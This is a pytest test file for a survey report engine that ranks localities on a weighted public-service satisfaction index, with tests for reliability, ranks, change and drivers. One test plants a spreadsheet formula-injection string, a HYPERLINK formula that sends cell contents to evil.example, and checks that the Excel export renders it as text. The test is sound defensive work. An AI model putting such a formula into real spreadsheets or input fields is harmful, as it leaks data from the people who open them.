"""The report engine on a synthetic frame: every locality, the reliability rule, ranks,
the change, the drivers, and the numbers against analysis/ computed directly."""

import pytest

from analysis import Design, index_nodes
from analysis.drivers import survey_logistic
from survey.reports.build import tree_to_node


def test_lists_every_locality_and_the_centre(report):
    codes = [row.code for row in report.localities]
    assert len(codes) == 103 and codes[-1] == "TINH"


def test_locality_without_responses_is_shown_unranked(report, report_frame):
    empty = [row for row in report.localities if row.code not in set(report_frame["locality_code"])]
    assert [row.code for row in empty] == ["X102", "TINH"]
    for row in empty:
        assert row.index.n == 0 and row.index.estimate is None
        assert not row.reliable and row.reasons == ("no_responses",)
        assert row.rank is None and row.group is None


def test_thin_localities_are_unreliable_and_unranked(report, report_frame):
    sizes = report_frame["locality_code"].value_counts()
    for row in report.localities:
        if 0 < sizes.get(row.code, 0) < 30:
            assert not row.reliable and "n" in row.reasons and row.rank is None


def test_ranks_follow_the_index_among_reliable(report):
    ranked = sorted((r for r in report.localities if r.rank), key=lambda r: r.rank)
    assert [r.rank for r in ranked] == list(range(1, len(ranked) + 1))
    values = [r.index.estimate for r in ranked]
    assert values == sorted(values, reverse=True)
    groups = [r.group for r in ranked]
    assert groups == sorted(groups) and set(groups) == {1, 2, 3, 4}


def test_index_and_locality_equal_analysis(report, report_frame, sipas_tree):
    """The report's numbers are analysis.sipas's, overall and for one locality."""
    root, _, _ = tree_to_node(sipas_tree)
    design = Design.from_frame(report_frame, weight="design_weight", strata="stratum", cluster="psu")
    direct = {(r.domain, r.name): r for r in index_nodes(design, root, by="locality_code", overall=True)}
    overall = direct[(None, "sipas")]
    assert report.index.stat.estimate == overall.estimate
    assert report.index.stat.se == overall.se
    row = next(r for r in report.localities if r.reliable)
    one = direct[((("locality_code", row.code),), "sipas")]
    assert (row.index.estimate, row.index.ci_low, row.index.ci_high) == (one.estimate, one.ci_low, one.ci_high)


def test_every_estimate_has_effective_n_and_deff(report):
    for node in [report.index, *report.fields, *report.elements]:
        s = node.stat
        assert s.deff > 0 and s.effective_n == pytest.approx(s.n / s.deff)
        assert s.ci_low < s.estimate < s.ci_high


def test_change_against_previous_wave(report):
    change = report.change
    assert change["previous_wave"] == "2026Q3"
    assert change["current"] == report.index.stat.estimate
    assert change["difference"] == pytest.approx(change["current"] - change["previous"])
    word = "tăng" if change["difference"] > 0 else "giảm"
    assert change["sentence"].startswith(f"So với đợt 2026Q3: {word}")
    assert ("không có ý nghĩa thống kê" not in change["sentence"]) == change["significant"]
    assert [p["wave"] for p in report.trend] == ["2026Q3", "2026Q4"]


def test_weakest_items_are_the_lowest_shares(report):
    shares = sorted(i.share.estimate for i in report.items)
    assert [report.item(c).share.estimate for c in report.weakest] == shares[:5]
    for code in report.weakest:
        assert sum(report.item(code).levels) == pytest.approx(1.0)


def test_opinions_are_weighted_shares(report, report_frame):
    harassment = next(o for o in report.opinions if o.code == "harassment")
    said = (report_frame["harassment"] > 1).to_numpy()
    w = report_frame["design_weight"].to_numpy()
    assert harassment.overall.estimate == pytest.approx((w * said).sum() / w.sum())
    for _code, stat in harassment.by_locality.items():
        assert stat.n >= 30


def test_drivers_are_the_survey_logistic_fit(report, report_frame):
    """The drivers table is analysis.drivers' fit of 'results' satisfied on the element scores."""
    drivers = report.drivers
    codes = {row.code for row in drivers.rows}
    assert "results" not in codes and "feedback" in drivers.left_out
    assert codes == {"access", "procedures", "civil_servants"}
    frame = report_frame.copy()
    scores = {}
    for element, items in (("access", ["tc1", "tc2", "tc3", "tc4"]), ("procedures", ["tt1", "tt2", "tt3", "tt4"]),
                           ("civil_servants", ["cc1", "cc2", "cc3", "cc4", "cc5"]),
                           ("results", ["kq1", "kq2", "kq3"])):
        scores[element] = frame[items].mean(axis=1)
        frame[f"s_{element}"] = scores[element]
    frame["y"] = (scores["results"] >= 4).astype(float).where(scores["results"].notna())
    design = Design.from_frame(frame, weight="design_weight", strata="stratum", cluster="psu")
    fit = survey_logistic(design, "y", ["s_access", "s_procedures", "s_civil_servants"])
    for row in drivers.rows:
        c = fit.coefficient(f"s_{row.code}")
        assert (row.coefficient, row.se) == pytest.approx((c.estimate, c.se), rel=1e-9)
    assert drivers.reading.startswith(f"Yếu tố “{drivers.rows[0].label}”")


def test_json_has_the_keys_the_issue_names(report):
    doc = report.as_dict()
    assert {"wave", "weighted", "n", "province", "localities", "change"} <= set(doc)
    assert set(doc["province"]["index"]) == {"sipas"}
    assert {"service", "policy"} == set(doc["province"]["fields"])
    assert {"access", "procedures", "civil_servants", "results", "feedback"} <= set(doc["province"]["elements"])
    row = doc["localities"][0]
    assert {"code", "name", "n", "index", "reliable", "rank"} <= set(row)
    for key in ("estimate", "se", "ci_low", "ci_high", "n", "deff"):
        assert key in doc["province"]["index"]["sipas"]
    assert 0 <= doc["province"]["index"]["sipas"]["estimate"] <= 1
    assert doc["demo"] is True
    assert doc["n"] == 8000


def test_report_workbook_writes_hostile_names_as_text(app, report):
    """A centre or locality name typed as a formula (issue 23) stays text in report.xlsx."""
    import copy
    import io

    from openpyxl import load_workbook

    from survey.reports.render import to_xlsx

    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    document = copy.deepcopy(report.as_dict())
    document["quality"][0]["centre_name"] = hostile
    document["localities"][0]["name"] = "+" + hostile[1:]
    with app.test_request_context():
        book = load_workbook(io.BytesIO(to_xlsx(document, {})))
    texts = [cell for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)
             for cell in row if isinstance(cell, str)]
    assert "'" + hostile in texts and "'+" + hostile[1:] in texts
    assert not any(t.startswith(("=", "+", "@")) for t in texts)
    assert not any(t.startswith("-") and not t.startswith("–") for t in texts)


def test_sectors_are_the_index_by_service_field(report, report_frame, sipas_tree):
    """Each sector's index is analysis.sipas's domain estimate by field_code on the full design,
    with the reliability rule of the localities; the JSON lists them with their halves."""
    root, _, _ = tree_to_node(sipas_tree)
    design = Design.from_frame(report_frame, weight="design_weight", strata="stratum", cluster="psu")
    direct = {r.domain[0][1]: r for r in index_nodes(design, root, by="field_code")
              if r.statistic == "index"}
    assert {row.code for row in report.sectors} == set(direct)
    for row in report.sectors:
        one = direct[row.code]
        assert (row.index.estimate, row.index.se, row.index.ci_low, row.index.ci_high) == (
            one.estimate, one.se, one.ci_low, one.ci_high)
        assert row.reliable == (not row.reasons)
        assert set(row.nodes) == {child.name for child in root.children}
    listed = report.as_dict()["sectors"]
    assert [s["name"] for s in listed] == sorted(s["name"] for s in listed)


def test_locality_change_is_two_independent_estimates(report, report_frame, sipas_tree):
    """Each locality's change since 2026Q3: analysis.change on the two waves' domain estimates
    (each with its own df), or a note saying why not; never NaN in the JSON."""
    from analysis.change import independent_change
    from bench.report_frame import make_frame

    root, _, _ = tree_to_node(sipas_tree)
    now = {r.domain[0][1]: r for r in index_nodes(
        Design.from_frame(report_frame, weight="design_weight", strata="stratum", cluster="psu"),
        root, by="locality_code") if r.statistic == "index"}
    then = {r.domain[0][1]: r for r in index_nodes(
        Design.from_frame(make_frame(6000, 102, seed=4, shift=-0.3), weight="design_weight",
                          strata="stratum", cluster="psu"), root, by="locality_code") if r.statistic == "index"}
    compared = 0
    for row in report.localities:
        assert row.change is not None and row.change["previous_wave"] == "2026Q3"
        if row.change["note"] is None:
            a, b = then[row.code], now[row.code]
            expected = independent_change("2026Q3", a.estimate, a.se, a.df, b.estimate, b.se, b.df)
            assert row.change["difference"] == expected.difference
            assert row.change["p_value"] == expected.p_value and row.change["df"] == a.df + b.df
            compared += 1
    assert compared > 50
    listed = report.as_dict()["localities"]
    assert all(r["change"]["note_text"] for r in listed if r["change"]["note"])


def test_extremes_are_the_best_and_worst_reliable_locality_per_element(report):
    document = report.as_dict()
    assert set(document["extremes"]) == {e.code for e in report.elements}
    for code, entry in document["extremes"].items():
        if entry["best"] is None:
            assert entry["worst"] is None and entry["reliable"] == 0
            continue
        assert entry["best"]["estimate"] >= entry["worst"]["estimate"]
        assert entry["reliable"] >= 1 and entry["best"]["note"] is None, code


def test_leadership_summary_is_sentences_from_the_numbers(report):
    from survey.reports.wording import percent

    lines = report.as_dict()["summary"]
    assert 5 <= len(lines) <= 8
    assert percent(report.index.stat.estimate) in lines[0]["text"]
    assert lines[1] == {"topic": "target", "text": report.gap_sentence}
    assert any(line["text"].startswith("Các yếu tố thấp nhất") for line in lines)
